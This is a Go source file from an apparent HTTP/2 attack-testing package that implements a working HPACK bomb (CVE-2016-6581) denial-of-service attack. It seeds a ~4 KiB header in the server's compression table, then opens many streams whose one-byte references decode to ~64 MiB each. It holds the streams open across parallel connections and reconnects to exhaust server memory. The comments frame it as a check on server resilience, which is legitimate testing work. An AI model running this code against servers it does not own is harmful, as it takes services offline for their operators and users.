package h2attack

import (
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// bombName is the header the bomb puts in the server's HPACK dynamic
// table; its value fills the table's default 4096 bytes (entry size is
// name + value + 32).
const bombName = "x-bomb"

var bombValue = strings.Repeat("b", 4096-32-len(bombName))

// bombRef is the one-byte indexed representation of the newest dynamic
// table entry (index 62 = 0x80|62).
const bombRef = 0x80 | 62

// HpackBombParams: hpack-bomb (CVE-2016-6581, "HPACK bomb") puts one ~4 KiB
// header into the server's HPACK dynamic table on the first stream, then
// opens streams whose header blocks repeat a one-byte reference to it Refs
// times: every 16 KiB frame decodes to ~64 MiB of header list. The streams
// stay open. A server that decodes and keeps headers beyond its header
// list limit holds that memory per stream. A healthy server stops decoding
// at its SETTINGS_MAX_HEADER_LIST_SIZE and refuses the stream
// (RST_STREAM, or a 431/grpc-status), or closes the connection.
type HpackBombParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Streams per connection carrying the bomb. Default 100.
	Streams int `yaml:"streams"`
	// Refs is the references per header block (one byte each on the
	// wire, ~4 KiB each decoded); blocks larger than a frame continue in
	// CONTINUATION frames. Default 16000 (one 16 KiB frame, ~64 MiB
	// decoded per stream).
	Refs int `yaml:"refs"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is streams per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 100.
	Rate float64 `yaml:"-"`
}

// DefaultHpackBomb returns hpack-bomb's defaults.
func DefaultHpackBomb() HpackBombParams {
	return HpackBombParams{Connections: 1, Reconnect: true, Streams: 100, Refs: 16000, Duration: 30 * time.Second, Rate: 100}
}

func (p *HpackBombParams) limits() limits {
	return limits{connections: p.Connections, count: p.Streams, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *HpackBombParams) Validate() error {
	if p.Refs < 1 || p.Refs > 1<<20 {
		return fmt.Errorf("hpack-bomb: refs must be within [1, %d], got %d", 1<<20, p.Refs)
	}
	return p.limits().validate("hpack-bomb", "streams")
}

// SetRate implements Params.
func (p *HpackBombParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *HpackBombParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *HpackBombParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "hpack-bomb", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	refs := make([]byte, p.Refs)
	for i := range refs {
		refs[i] = bombRef
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "hpack-bomb", lim: p.limits(),
		describe: fmt.Sprintf("a %d-byte header in the HPACK table, then %d one-byte references to it per header block (~%d MiB decoded per stream)",
			len(bombName)+len(bombValue), p.Refs, int64(p.Refs)*int64(len(bombName)+len(bombValue))>>20),
		loop: func(ctx context.Context, c *conn) (string, error) {
			_, err := c.pace(ctx, p.Streams, p.Rate, func(i int) error {
				id, ok := c.newStream()
				if !ok {
					return errIDsExhausted
				}
				// Request fields never indexed: the bomb stays the newest
				// entry, at index 62, for every later block.
				var block []byte
				if i == 0 {
					block = append([]byte(nil), c.requestBlock(true, hpack.HeaderField{Name: bombName, Value: bombValue})...)
				} else {
					block = append(append([]byte(nil), c.requestBlock(true)...), refs...)
				}
				frames := 1
				err := c.send(0, func(fr *http2.Framer) error {
					max := int(c.maxFr)
					first := block[:min(len(block), max)]
					rest := block[len(first):]
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(rest) == 0}); err != nil {
						return err
					}
					for len(rest) > 0 {
						k := min(len(rest), max)
						if err := fr.WriteContinuation(id, k == len(rest), rest[:k]); err != nil {
							return err
						}
						rest = rest[k:]
						frames++
					}
					return nil
				})
				c.frames.Add(int64(frames))
				return err
			})
			if err != nil {
				return "", err
			}
			return c.holdOpen(ctx) // the streams stay open: what they decoded stays held
		}}, report)
}

func init() {
	register(Attack{Name: "hpack-bomb", Summary: "header blocks that decode to far more than their wire size (HPACK bomb)",
		Params: func() Params { p := DefaultHpackBomb(); return &p }})
}
